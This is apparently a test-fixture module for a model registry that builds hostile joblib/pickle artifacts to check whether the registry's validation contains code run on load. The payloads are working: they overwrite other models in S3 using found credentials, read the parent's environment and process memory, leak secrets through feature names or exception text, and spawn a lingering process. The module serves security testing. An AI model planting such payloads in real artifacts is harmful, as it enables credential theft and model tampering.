"""Artifacts whose loading attacks the registry: what a malicious registrant would upload.

Each is a real joblib file. Unpickling it calls take_over(), which tries everything the
process it runs in allows: write over another model's objects with whatever AWS
credentials it can find, write into the store the process is configured with, read its
parent's environment, and smuggle what it read out through the model's own metadata or
an exception's text. It writes what it managed into a report file, so a test can tell
that the code ran and what it could do.
"""

import io
import json
import os
import re
from pathlib import Path
from typing import Any

import joblib
import numpy
from sklearn.linear_model import LogisticRegression

SMUGGLE_IN_FEATURE_NAMES = "feature_names"
SMUGGLE_IN_EXCEPTION = "exception"


def _secrets_in_reach() -> list[str]:
    """Every environment value this process can see, its own and its parent's."""
    values = list(os.environ.values())
    try:
        parent = Path(f"/proc/{os.getppid()}/environ").read_bytes()
        values += [item.partition(b"=")[2].decode(errors="replace") for item in parent.split(b"\0")]
    except OSError:
        pass
    return [value for value in values if value]


def take_over(
    report_path: str, bucket: str, endpoint: str, victim_keys: list[str], smuggle: str
) -> Any:
    report: dict[str, Any] = {"environment": sorted(os.environ), "ran": True}
    try:
        import boto3

        # The process's own credentials, as any AWS SDK finds them, on the real endpoint.
        s3 = boto3.client("s3", endpoint_url=endpoint, region_name="us-east-1")
        for key in victim_keys:
            s3.put_object(Bucket=bucket, Key=key, Body=b"taken over")
        report["s3_write"] = "written"
    except Exception as exc:
        report["s3_write"] = type(exc).__name__
    uri = os.environ.get("REGISTRY_URI")
    if uri:
        from registry.store import open_store

        try:
            for key in victim_keys:
                open_store(uri).put(key.removeprefix("registry/"), b"taken over")
            report["store_write"] = "written"
        except Exception as exc:
            report["store_write"] = type(exc).__name__
    else:
        report["store_write"] = "no REGISTRY_URI"
    found = _secrets_in_reach()
    Path(report_path).write_text(json.dumps(report))
    if smuggle == SMUGGLE_IN_EXCEPTION:
        raise RuntimeError("leaked: " + " ".join(found))
    # A valid model whose feature names are every value it found: the 201 would show them.
    names = list(dict.fromkeys(value[:200] for value in found))[:500] or ["nothing", "found"]
    rows = numpy.random.default_rng(0).normal(size=(8, len(names)))
    model = LogisticRegression().fit(rows, [0, 1] * 4)
    model.feature_names_in_ = numpy.array(names, dtype=object)
    return model


class HostileArtifact:
    def __init__(self, *args: Any) -> None:
        self.args = args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return (take_over, self.args)


def hostile_joblib(
    report_path: Path, bucket: str, endpoint: str, victim_keys: list[str], smuggle: str
) -> bytes:
    buffer = io.BytesIO()
    joblib.dump(HostileArtifact(str(report_path), bucket, endpoint, victim_keys, smuggle), buffer)
    return buffer.getvalue()


def linger(pid_path: str) -> Any:
    """Start a process in a session of its own that would outlive the validation."""
    import subprocess

    process = subprocess.Popen(["sleep", "300"], start_new_session=True)
    Path(pid_path).write_text(str(process.pid))
    return LogisticRegression().fit([[0.0], [1.0]], [0, 1])


def _found_after(prefix: bytes, length: int) -> set[str]:
    """Every run of `length` hex digits after the prefix anywhere in this process's memory."""
    pattern = re.compile(re.escape(prefix) + rb"([0-9a-f]{%d})" % length)
    found = set()
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            span, permissions = line.split()[:2]
            if not permissions.startswith("r") or "[vvar" in line or "[vsyscall" in line:
                continue
            start, end = (int(value, 16) for value in span.split("-"))
            try:
                memory.seek(start)
                region = memory.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            found |= {match.decode() for match in pattern.findall(region)}
    return found


def look_around(marker_prefix: str) -> Any:
    """A model whose feature names tell what the process saw: environments, and what follows
    the marker's prefix in its memory (another registration's bytes would show there)."""
    seen = []
    for path in ("/proc/self/environ", f"/proc/{os.getppid()}/environ"):
        try:
            seen += [item.decode(errors="replace") for item in Path(path).read_bytes().split(b"\0")]
        except OSError as exc:
            seen.append(f"{path}: {type(exc).__name__}")
    seen += [f"found: {suffix}" for suffix in sorted(_found_after(marker_prefix.encode(), 24))]
    seen.append("memory searched")
    names = list(dict.fromkeys(value[:200] for value in seen if value))
    rows = numpy.random.default_rng(0).normal(size=(8, len(names)))
    model = LogisticRegression().fit(rows, [0, 1] * 4)
    model.feature_names_in_ = numpy.array(names, dtype=object)
    return model


class Calls:
    """Unpickling calls function(*args): a joblib file whose loading runs our code."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.function = function
        self.args = args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return (self.function, self.args)


def joblib_calling(function: Any, *args: Any) -> bytes:
    buffer = io.BytesIO()
    joblib.dump(Calls(function, *args), buffer)
    return buffer.getvalue()


class CreatesFileWhenUnpickled:
    """A payload whose unpickling has a visible side effect: it creates a file."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (Path.touch, (self.path,))
